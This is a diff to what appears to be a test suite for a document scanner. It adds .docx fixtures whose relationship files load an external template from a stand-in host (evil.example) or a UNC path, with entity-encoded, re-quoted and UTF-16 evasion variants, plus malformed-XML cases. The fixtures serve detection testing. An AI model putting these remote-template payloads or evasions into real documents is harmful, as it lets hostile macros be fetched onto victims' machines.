@@ -160,7 +160,7 @@ def flood(side: int) -> bytes:
 
 
 REMOTE = (
-    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
     'attachedTemplate" Target="{}" TargetMode="External"/></Relationships>'
 )
 
@@ -201,6 +201,15 @@ REMOTE = (
         ("a.docx", making.docx(**{"word/embeddings/a.bin": b"MZ\x90\0"}), "program-inside"),
         ("a.docx", making.docx(**{"word/_rels/settings.xml.rels": REMOTE.format("https://evil.example/a")}), "remote"),
         ("a.docx", making.docx(**{"word/_rels/settings.xml.rels": REMOTE.format("\\\\evil\\a.dotm")}), "remote"),
+        ("a.docx", making.docx(**{"word/_rels/a.rels": REMOTE.format("&#104;ttp://evil.example/a")}), "remote"),
+        ("a.docx", making.docx(**{"word/_rels/a.rels": REMOTE.format("//evil/a").replace('"', "'")}), "remote"),
+        (
+            "a.docx",
+            making.docx(**{"word/_rels/a.rels": REMOTE.format("https://evil.example").encode("utf-16")}),
+            "remote",
+        ),
+        ("a.docx", making.docx(**{"word/_rels/a.rels": "<!DOCTYPE a [<!ENTITY e 'x'>]><a/>"}), "broken"),
+        ("a.docx", making.docx(**{"word/_rels/a.rels": "<Relationships"}), "broken"),
         ("a.docx", making.docx(**{"word/media/a.xml": bytes(limits.MEGABYTE * 40)}), "bomb"),
         ("a.jpg", making.photograph()[:400], "broken"),
         ("a.png", making.png()[:60], "broken"),
